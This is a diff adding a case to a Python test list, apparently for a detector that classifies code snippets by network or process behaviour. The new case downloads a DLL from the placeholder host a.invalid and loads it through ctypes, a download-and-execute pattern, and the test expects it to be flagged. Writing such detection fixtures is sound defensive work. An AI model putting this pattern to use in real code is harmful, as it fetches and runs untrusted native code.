@@ -18,6 +18,14 @@ CASES: list[tuple[str, Kind, str | None]] = [
         Kind.NET_CONNECT,
         "https://a.invalid/x",
     ),
+    (
+        (
+            "import ctypes, urllib.request\nurllib.request.urlretrieve('https://a.invalid/x', '/x/y.dll')\n"
+            "ctypes.CDLL('/x/y.dll')"
+        ),
+        Kind.PROCESS_SPAWN,
+        "/x/y.dll",
+    ),
     ("import http.client\nhttp.client.HTTPSConnection('a.invalid')", Kind.NET_CONNECT, "a.invalid"),
     ("import httpx\nwith httpx.Client() as c:\n    c.post('https://a.invalid')", Kind.NET_CONNECT, "https://a.invalid"),
     ("import requests\ns = requests.Session()\ns.get('https://a.invalid')", Kind.NET_CONNECT, "https://a.invalid"),
